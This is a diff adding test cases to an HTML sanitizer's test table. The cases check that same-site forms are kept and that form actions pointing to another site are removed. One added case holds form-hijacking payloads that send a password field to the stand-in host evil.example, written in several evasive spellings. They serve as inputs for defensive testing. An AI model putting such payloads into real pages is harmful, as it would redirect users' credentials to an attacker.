@@ -83,6 +83,18 @@ export const SANITIZE_CASES: SanitizeCase[] = [
   },
   { title: 'drops HTML comments', html: '<p>a<!-- note --></p>', out: '<p>a</p>' },
   {
+    title: 'keeps a form that posts to this site',
+    html: '<form action="/newsletter/subscribe" method="post"><input name="email"></form>',
+    out: '<form action="/newsletter/subscribe" method="post"><input name="email"></form>',
+  },
+  {
+    title: 'drops a form action or formaction on another site, however it is spelled',
+    html: '<form action="https://evil.example/steal"><input name="password"></form><form action="//evil.example/x"></form>'
+      + '<form action="/\\evil.example/x"></form><form action=" \thttps://evil.example"></form><form><button formaction="https://evil.example/x">Go</button></form>',
+    never: [/evil\.example/],
+    keeps: ['<input name="password">', '<button>Go</button>'],
+  },
+  {
     title: 'keeps harmless inline styles and CMS attributes',
     html: '<p style="color: red; text-align: center" class="lead" data-role="x" aria-label="Intro">a</p>',
     keeps: ['style="color: red; text-align: center"', 'class="lead"', 'data-role="x"', 'aria-label="Intro"'],
